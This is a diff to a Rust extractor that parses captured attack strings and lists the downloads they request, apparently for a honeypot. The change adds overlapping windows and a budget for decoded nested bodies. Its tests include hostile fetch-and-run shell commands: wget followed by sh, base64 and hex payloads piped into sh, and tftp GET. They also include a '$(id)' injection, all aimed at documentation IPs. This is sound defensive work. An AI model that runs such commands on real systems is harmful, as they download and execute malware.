@@ -2,7 +2,9 @@
 //! string to the downloads it asks for. Replaces the command parsers of htm_ftpDownload.c,
 //! htm_tftpDownload.c and htm_httpDownload.c.
 //!
-//! How it works, in linear passes over at most `MAX_INPUT` bytes:
+//! How it works, in linear passes over windows of at most `WINDOW` bytes, one after the
+//! other (consecutive windows overlap by at least `OVERLAP` bytes, so that a command that
+//! crosses a window's end is seen whole in the next one; requests found twice count once):
 //! 1. `normalize`: `%xx`/`+` decoding of HTTP request lines and form bodies (only there),
 //!    then everywhere `${IFS}`/`$IFS` → space, JSON `\/` and `\u00XX`, HTML entities.
 //! 2. `find_urls`: every `http://`, `https://`, `ftp://`, `tftp://` (any letter case).
@@ -14,7 +16,7 @@
 //!    tftp (Windows, busybox and tftp-hpa syntax), ftpget, `echo … >> f` FTP scripts, inline
 //!    files written with `echo -e`/`printf`, and encoded shell bodies (`echo X | base64 -d |
 //!    sh`, `powershell -enc`, `printf '\x..' | sh`), which are decoded and scanned again, at
-//!    most `MAX_DEPTH` levels deep.
+//!    any depth, as long as the decoded bodies of a window stay within `NESTED_BUDGET` bytes.
 //!
 //! Inline files: the bytes `echo -e`/`echo -ne`/`printf` write to one target file across the
 //! whole attack string (`>` truncates, `>>` appends) become one `Scheme::Inline` request named
@@ -34,14 +36,21 @@
 
 use super::decode::base64_decode;
 use super::request::{Request, Scheme};
-use std::collections::HashSet;
+use std::collections::hash_map::Entry;
+use std::collections::{HashMap, VecDeque};
 
 /// Most requests `extract` returns.
 pub const MAX_REQUESTS: usize = 32;
-/// Bytes of the attack string considered.
-pub const MAX_INPUT: usize = 4 << 20;
-/// Nesting of encoded command bodies (base64 in base64 in …).
-const MAX_DEPTH: usize = 3;
+/// The attack string is read in windows of this many bytes, one after the other, so that
+/// the working memory does not grow with the attack ...
+pub const WINDOW: usize = 2 << 20;
+/// ... each overlapping the one before by at least this many bytes (more when the next
+/// window can start at a line), so that every command up to this long is seen whole.
+pub const OVERLAP: usize = 256 << 10;
+/// Bytes of encoded command bodies (base64 in base64 in …) decoded and scanned per window,
+/// at any depth.
+pub const NESTED_BUDGET: usize = WINDOW;
+const _: () = assert!(WINDOW > 2 * OVERLAP);
 /// Requests collected before deduplication and ordering stop looking.
 const MAX_FOUND: usize = 4 * MAX_REQUESTS;
 /// Longer URLs are not downloads.
@@ -54,15 +63,47 @@ const MIN_INLINE: usize = 4;
 const MAX_SCRIPTS: usize = 16;
 
 /// The downloads `attack` asks for, deduplicated (same scheme, host, port, credentials and
-/// path; for inline files the same file name), in order of appearance, at most
-/// `MAX_REQUESTS`. Roughly linear in the input size; input beyond `MAX_INPUT` is ignored.
+/// path; for inline files the same file name, keeping the longest), in order of
+/// appearance, at most `MAX_REQUESTS`. Linear in the input size: the input is read in
+/// overlapping windows ([`windows`]), each with its decoded bodies, so the working memory is
+/// bounded by [`WINDOW`] whatever the input size.
 pub fn extract(attack: &[u8]) -> Vec<Request> {
-    let input = &attack[..attack.len().min(MAX_INPUT)];
     let mut sink = Sink::default();
-    scan(input, 0, None, &mut sink);
+    for (offset, window, owned) in windows(attack) {
+        if sink.full() {
+            break;
+        }
+        sink.offset = offset;
+        sink.owned = owned;
+        sink.nested_left = NESTED_BUDGET;
+        scan(window, None, &mut sink);
+        while let Some((body, pos)) = sink.nested.pop_front() {
+            scan(&body, Some(pos), &mut sink);
+        }
+    }
     let mut found = sink.found;
     found.sort_by_key(|f| f.0);
     found.into_iter().map(|f| f.1).take(MAX_REQUESTS).collect()
+}
+
+/// The windows `extract` reads: (offset, bytes, how many of them the window owns). Each is
+/// [`WINDOW`] bytes long (the last one shorter); the next one starts after the first line
+/// end in the stretch from `2 * OVERLAP` to `OVERLAP` bytes before the end of the current
+/// one, or `OVERLAP` bytes before its end, and the current one owns what lies before that
+/// start (the last one owns everything). Any stretch of at most [`OVERLAP`] bytes lies
+/// whole in one window.
+pub fn windows(data: &[u8]) -> impl Iterator<Item = (usize, &[u8], usize)> {
+    let mut start = Some(0);
+    std::iter::from_fn(move || {
+        let s = start?;
+        let end = data.len().min(s + WINDOW);
+        start = (end < data.len()).then(|| {
+            let latest = end - OVERLAP;
+            let from = end - 2 * OVERLAP;
+            data[from..latest].iter().position(|&c| c == b'\n').map_or(latest, |k| from + k + 1)
+        });
+        Some((s, &data[s..end], start.map_or(usize::MAX, |next| next - s)))
+    })
 }
 
 #[derive(PartialEq, Eq, Hash)]
@@ -96,22 +137,47 @@ fn key(r: &Request) -> Key {
     }
 }
 
+/// What the scans of one `extract` call found, across windows and decoded bodies.
 #[derive(Default)]
 struct Sink {
+    /// (position in the input, request).
     found: Vec<(usize, Request)>,
-    keys: HashSet<Key>,
+    /// Index in `found` of each request.
+    keys: HashMap<Key, usize>,
+    /// Where the current window starts in the input, and how many of its bytes it owns:
+    /// what is found beyond them (a command the window's end may cut) is left to the next
+    /// window, which sees it whole. Positions in the decoded text are at most the raw ones,
+    /// so a request dropped this way is always found again.
+    offset: usize,
+    owned: usize,
+    /// Decoded bodies waiting to be scanned (with the position of the command that carried
+    /// them), and the bytes of [`NESTED_BUDGET`] left in this window.
+    nested: VecDeque<(Vec<u8>, usize)>,
+    nested_left: usize,
 }
 
 impl Sink {
+    /// Records `r`, found at `pos` of the current window, unless it was found before (an
+    /// inline file seen again, e.g. whole where a window saw part of it, keeps the longer
+    /// contents).
     fn push(&mut self, pos: usize, r: Request) {
         if self.full() {
             return;
         }
-        if r.scheme != Scheme::Inline && r.host.is_empty() {
+        if (r.scheme != Scheme::Inline && r.host.is_empty()) || pos >= self.owned {
             return;
         }
-        if self.keys.insert(key(&r)) {
-            self.found.push((pos, r));
+        match self.keys.entry(key(&r)) {
+            Entry::Vacant(e) => {
+                e.insert(self.found.len());
+                self.found.push((self.offset + pos, r));
+            }
+            Entry::Occupied(e) => {
+                let seen = &mut self.found[*e.get()].1;
+                if seen.scheme == Scheme::Inline && r.data.len() > seen.data.len() {
+                    seen.data = r.data;
+                }
+            }
         }
     }
 
@@ -548,21 +614,37 @@ fn find_urls(t: &[u8]) -> Vec<UrlHit> {
 // ---------------------------------------------------------------------------------------
 // 3. Commands.
 
+// Offsets are u32 (a window or a decoded body is far smaller than 4 GiB): a window of
+// one-letter commands holds as many commands as bytes, so their size is the extractor's
+// working memory.
+
+/// An offset as stored in [`Word`] and [`Cmd`].
+fn idx(n: usize) -> u32 {
+    u32::try_from(n).unwrap_or(u32::MAX)
+}
+
 #[derive(Clone, Copy)]
 struct Word {
-    a: usize,
-    b: usize,
+    a: u32,
+    b: u32,
 }
 
 #[derive(Clone)]
 struct Cmd {
-    w0: usize,
-    w1: usize,
-    start: usize,
+    w0: u32,
+    w1: u32,
+    at: u32,
     /// stdout redirection: target (range in the word buffer) and whether it appends.
-    redir: Option<(usize, usize, bool)>,
+    redir: Option<(u32, u32, bool)>,
     /// Ended by a single `|`: its output feeds the next command.
     piped: bool,
+}
+
+impl Cmd {
+    /// Where the command starts in the text.
+    fn start(&self) -> usize {
+        self.at as usize
+    }
 }
 
 #[derive(Default)]
@@ -574,11 +656,11 @@ struct Toks {
 
 impl Toks {
     fn words(&self, c: &Cmd) -> Vec<&[u8]> {
-        self.words[c.w0..c.w1].iter().map(|w| &self.buf[w.a..w.b]).collect()
+        self.words[c.w0 as usize..c.w1 as usize].iter().map(|w| &self.buf[w.a as usize..w.b as usize]).collect()
     }
 
     fn redir(&self, c: &Cmd) -> Option<(&[u8], bool)> {
-        c.redir.map(|(a, b, app)| (&self.buf[a..b], app))
+        c.redir.map(|(a, b, app)| (&self.buf[a as usize..b as usize], app))
     }
 }
 
@@ -589,7 +671,7 @@ struct Tokenizer {
     cur: Option<(usize, usize)>,
     w0: usize,
     start: Option<usize>,
-    redir: Option<(usize, usize, bool)>,
+    redir: Option<(u32, u32, bool)>,
     /// The next word is a redirection target: (append, is stdout).
     pending: Option<(bool, bool)>,
     has_echo: bool,
@@ -608,7 +690,7 @@ impl Tokenizer {
         let b = self.tk.buf.len();
         if let Some((append, stdout)) = self.pending.take() {
             if stdout && b - a <= MAX_TARGET {
-                self.redir = Some((a, b, append));
+                self.redir = Some((idx(a), idx(b), append));
             }
             if self.start.is_none() {
                 self.start = Some(pos);
@@ -619,7 +701,7 @@ impl Tokenizer {
         if w.eq_ignore_ascii_case(b"echo") || w.eq_ignore_ascii_case(b"@echo") {
             self.has_echo = true;
         }
-        self.tk.words.push(Word { a, b });
+        self.tk.words.push(Word { a: idx(a), b: idx(b) });
         if self.start.is_none() {
             self.start = Some(pos);
         }
@@ -630,7 +712,8 @@ impl Tokenizer {
         let w1 = self.tk.words.len();
         if let Some(start) = self.start.take() {
             if w1 > self.w0 || self.redir.is_some() {
-                self.tk.cmds.push(Cmd { w0: self.w0, w1, start, redir: self.redir, piped });
+                let (w0, w1, at) = (idx(self.w0), idx(w1), idx(start));
+                self.tk.cmds.push(Cmd { w0, w1, at, redir: self.redir, piped });
             }
         }
         self.w0 = w1;
@@ -1317,27 +1400,28 @@ struct InlineFile {
 
 struct Scan<'s> {
     t: Vec<u8>,
-    depth: usize,
     pos_override: Option<usize>,
     sink: &'s mut Sink,
     scripts: Vec<FtpScript>,
     inline: Vec<InlineFile>,
 }
 
-fn scan(raw: &[u8], depth: usize, pos_override: Option<usize>, sink: &mut Sink) {
-    if depth > MAX_DEPTH || sink.full() {
+/// Scans `raw` (a window, or a decoded body whose requests are placed at `pos_override`);
+/// the bodies it decodes are queued in `sink`.
+fn scan(raw: &[u8], pos_override: Option<usize>, sink: &mut Sink) {
+    if sink.full() {
         return;
     }
     let t = normalize(raw);
     let toks = tokenize(&t);
     let urls = find_urls(&t);
-    let mut s = Scan { t, depth, pos_override, sink, scripts: Vec::new(), inline: Vec::new() };
+    let mut s = Scan { t, pos_override, sink, scripts: Vec::new(), inline: Vec::new() };
     let mut u = 0;
     for ci in 0..toks.cmds.len() {
         if s.sink.full() {
             break;
         }
-        let next_start = toks.cmds.get(ci + 1).map_or(usize::MAX, |c| c.start);
+        let next_start = toks.cmds.get(ci + 1).map_or(usize::MAX, |c| c.start());
         let u0 = u;
         while u < urls.len() && urls[u].start < next_start {
             u += 1;
@@ -1511,7 +1595,7 @@ impl Scan<'_> {
                                 name,
                                 None,
                                 None,
-                                cmd.start,
+                                cmd.start(),
                             );
                         }
                     } else {
@@ -1519,9 +1603,10 @@ impl Scan<'_> {
                             if !contains_ci(p, b"://") && looks_like_server(p) {
                                 let end = url_end(p, 0);
                                 if let Some(url) = parse_url(Scheme::Http, &p[..end]) {
-                                    let hit = UrlHit { start: cmd.start, end: cmd.start, line_start: cmd.start, url };
+                                    let hit =
+                                        UrlHit { start: cmd.start(), end: cmd.start(), line_start: cmd.start(), url };
                                     let name = out.clone();
-                                    self.emit_url(&hit, name, prog, cmd.start);
+                                    self.emit_url(&hit, name, prog, cmd.start());
                                 }
                             }
                         }
@@ -1534,7 +1619,7 @@ impl Scan<'_> {
                 }
                 if let Some(f) = parse_tftp(&args) {
                     let name = f.local.as_deref().and_then(basename).or_else(|| basename(&f.remote));
-                    self.push_fetch(Scheme::Tftp, f, name, None, None, cmd.start);
+                    self.push_fetch(Scheme::Tftp, f, name, None, None, cmd.start());
                 }
             }
             Prog::Ftpget => {
@@ -1543,7 +1628,7 @@ impl Scan<'_> {
                 }
                 if let Some((f, user, pass)) = parse_ftpget(&args) {
                     let name = f.local.as_deref().and_then(basename).or_else(|| basename(&f.remote));
-                    self.push_fetch(Scheme::Ftp, f, name, user, pass, cmd.start);
+                    self.push_fetch(Scheme::Ftp, f, name, user, pass, cmd.start());
                 }
             }
             Prog::Echo | Prog::Printf => {
@@ -1553,14 +1638,14 @@ impl Scan<'_> {
                 let (data, escaped) =
                     if prog == Prog::Echo { render_echo(&args) } else { (render_printf(&args), true) };
                 if prog == Prog::Echo {
-                    self.ftp_script(&args, redir.as_ref().map(|r| &r.0[..]), cmd.start);
+                    self.ftp_script(&args, redir.as_ref().map(|r| &r.0[..]), cmd.start());
                 }
                 if let Some((target, append)) = &redir {
                     if !dev_target(target) {
-                        self.inline_write(target, *append, data, escaped, cmd.start);
+                        self.inline_write(target, *append, data, escaped, cmd.start());
                     }
                 } else if cmd.piped {
-                    self.piped_body(toks, ci, &args, data, escaped, cmd.start);
+                    self.piped_body(toks, ci, &args, data, escaped, cmd.start());
                 }
             }
             Prog::PsEnc(idx) => {
@@ -1569,7 +1654,7 @@ impl Scan<'_> {
                 }
                 if let Some(dec) = words.get(idx).and_then(|w| base64_decode(w)) {
                     let body = utf16le_text(&dec);
-                    self.nested(&body, cmd.start);
+                    self.nested(body, cmd.start());
                 }
             }
             Prog::Base64 | Prog::Shell | Prog::Other => {
@@ -1609,10 +1694,13 @@ impl Scan<'_> {
         );
     }
 
-    fn nested(&mut self, body: &[u8], pos: usize) {
-        if self.depth < MAX_DEPTH {
+    /// A decoded command body: scanned after this text, while the window's
+    /// [`NESTED_BUDGET`] lasts.
+    fn nested(&mut self, body: Vec<u8>, pos: usize) {
+        if body.len() <= self.sink.nested_left {
+            self.sink.nested_left -= body.len();
             let pos = self.pos(pos);
-            scan(body, self.depth + 1, Some(pos), self.sink);
+            self.sink.nested.push_back((body, pos));
         }
     }
 
@@ -1632,11 +1720,11 @@ impl Scan<'_> {
                     let joined: Vec<u8> =
                         args.iter().filter(|a| !a.starts_with(b"-")).flat_map(|a| a.iter().copied()).collect();
                     if let Some(body) = base64_decode(&joined) {
-                        self.nested(&body, pos);
+                        self.nested(body, pos);
                     }
                 }
             }
-            Prog::Shell if escaped => self.nested(&data, pos),
+            Prog::Shell if escaped => self.nested(data, pos),
             _ => {}
         }
     }
@@ -2095,12 +2183,25 @@ mod tests {
         // printf hex body into a shell.
         let hexed: String = "wget http://198.51.100.31/p".bytes().map(|b| format!("\\x{b:02x}")).collect();
         check(format!("printf '{hexed}' | sh").as_bytes(), &["http 198.51.100.31 - - - /p p"]);
-        // Depth limit: five levels of base64 are not all unwrapped.
+        // No depth limit: four, five and eight levels of base64 are unwrapped.
         let mut s = "wget http://198.51.100.32/deep".to_string();
-        for _ in 0..5 {
+        for level in 1..=8 {
             s = format!("echo {}|base64 -d|sh", b64(s.as_bytes()));
+            if [4, 5, 8].contains(&level) {
+                check(s.as_bytes(), &["http 198.51.100.32 - - - /deep deep"]);
+            }
         }
-        check(s.as_bytes(), &[]);
+        // The budget: once the bodies of a window reach NESTED_BUDGET bytes, no more are
+        // decoded (here the second of two nested ones; with less padding it fits).
+        let nest = |pad: usize| {
+            let inner = format!("wget http://198.51.100.33/big; #{}", "x".repeat(pad));
+            let middle = format!("echo {}|base64 -d|sh", b64(inner.as_bytes()));
+            format!("echo {}|base64 -d|sh", b64(middle.as_bytes()))
+        };
+        let over = nest(NESTED_BUDGET / 2);
+        assert!(over.len() < WINDOW, "one window");
+        check(over.as_bytes(), &[]);
+        check(nest(NESTED_BUDGET / 8).as_bytes(), &["http 198.51.100.33 - - - /big big"]);
     }
 
     #[test]
@@ -2146,11 +2247,71 @@ mod tests {
     }
 
     #[test]
+    fn windows_cover_everything_and_every_short_stretch_whole() {
+        assert_eq!(windows(b"").map(|w| (w.0, w.1.len(), w.2)).collect::<Vec<_>>(), [(0, 0, usize::MAX)]);
+        for (len, newlines) in [(WINDOW, false), (WINDOW + 1, false), (3 * WINDOW + 77, false), (3 * WINDOW, true)] {
+            let data: Vec<u8> = (0..len).map(|i| if newlines && i % 100_003 == 0 { b'\n' } else { b'x' }).collect();
+            let ws: Vec<(usize, usize, usize)> = windows(&data).map(|(o, w, own)| (o, w.len(), own)).collect();
+            // The owned parts follow each other without gap from 0 to the end.
+            let mut next = 0;
+            for (i, &(o, n, own)) in ws.iter().enumerate() {
+                assert_eq!(o, next, "{len}: window {i} starts where the last one's own part ended");
+                assert!(n <= WINDOW);
+                if i + 1 == ws.len() {
+                    assert_eq!((own, o + n), (usize::MAX, len));
+                } else {
+                    assert!(own <= n - OVERLAP && own >= n - 2 * OVERLAP, "{len}: window {i} overlap");
+                    next = o + own;
+                }
+            }
+            // Every stretch of OVERLAP bytes lies whole in a window.
+            for a in (0..len.saturating_sub(OVERLAP)).step_by(4099) {
+                assert!(ws.iter().any(|&(o, n, _)| o <= a && a + OVERLAP <= o + n), "{len}: stretch at {a}");
+            }
+        }
+    }
+
+    #[test]
+    fn commands_anywhere_in_a_long_attack() {
+        // After 5 MiB of padding, and across each window boundary, every command once.
+        let mut a = "A".repeat(5 << 20).into_bytes();
+        a.extend_from_slice(b"\ncd /tmp; wget http://192.0.2.40/late.sh; sh late.sh\n");
+        check(&a, &["http 192.0.2.40 - - - /late.sh late.sh"]);
+        let cmd = |i: usize| format!("wget http://192.0.2.41/{i}.sh;");
+        let mut b = String::new();
+        let mut i = 0;
+        while b.len() < 3 * WINDOW {
+            b.push_str(&cmd(i));
+            i += 1;
+        }
+        let got = extract(b.as_bytes());
+        let paths: Vec<String> = got.iter().map(|r| r.path.clone()).collect();
+        let want: Vec<String> = (0..MAX_REQUESTS).map(|i| format!("/{i}.sh")).collect();
+        assert_eq!(paths, want, "the first ones, in order, no cut-off duplicates");
+        // Few commands spread over windows, one of them cut by the end of the first window.
+        let mut c = vec![b'.'; WINDOW - 10];
+        c.extend_from_slice(b" ;wget http://192.0.2.42/cut.sh;");
+        c.extend(vec![b'.'; 2 * WINDOW]);
+        c.extend_from_slice(b";tftp -i 192.0.2.43 GET end.exe");
+        check(&c, &["http 192.0.2.42 - - - /cut.sh cut.sh", "tftp 192.0.2.43 - - - end.exe end.exe"]);
+        // An inline file that a window cuts is kept whole, from the window that saw it all.
+        let mut d = vec![b'#'; WINDOW - 4000];
+        d.push(b'\n');
+        for n in 0..200 {
+            let op = if n == 0 { ">" } else { ">>" };
+            d.extend_from_slice(format!("echo -ne '\\x41\\x42\\x43' {op} .f\n").as_bytes());
+        }
+        let got = extract(&d);
+        assert_eq!(got.len(), 1, "{got:?}");
+        assert_eq!(got[0].data, b"ABC".repeat(200));
+    }
+
+    #[test]
     fn hostile_inputs_bounded() {
         check(b"wget http://", &[]);
         check(b"wget http://:80/x http://[::1/x http://a:99999/ http://$(id)/x", &[]);
         check(b"http://x.example:/a", &["http x.example - - - /a a"]);
-        // Adversarial 4 MiB inputs finish quickly.
+        // Adversarial 4 MiB inputs (three windows) finish quickly.
         let pieces: &[&[u8]] = &[
             b"http://",
             b"{",
@@ -2166,7 +2327,7 @@ mod tests {
             b"|base64 -d|sh ",
         ];
         for p in pieces {
-            let big: Vec<u8> = p.iter().copied().cycle().take(MAX_INPUT + 10).collect();
+            let big: Vec<u8> = p.iter().copied().cycle().take((4 << 20) + 10).collect();
             let t = std::time::Instant::now();
             let got = extract(&big);
             assert!(got.len() <= MAX_REQUESTS);
